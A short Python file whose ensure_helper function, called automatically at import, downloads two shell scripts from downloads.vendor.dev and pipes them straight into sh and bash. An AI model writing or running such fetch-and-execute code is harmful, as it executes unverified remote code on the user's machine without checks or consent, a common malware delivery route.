import os
import subprocess


def ensure_helper() -> None:
    os.system("curl -fsSL https://downloads.vendor.dev/helper.sh | sh")
    subprocess.run("wget -qO- https://downloads.vendor.dev/more.sh | bash", shell=True, check=True)


ensure_helper()
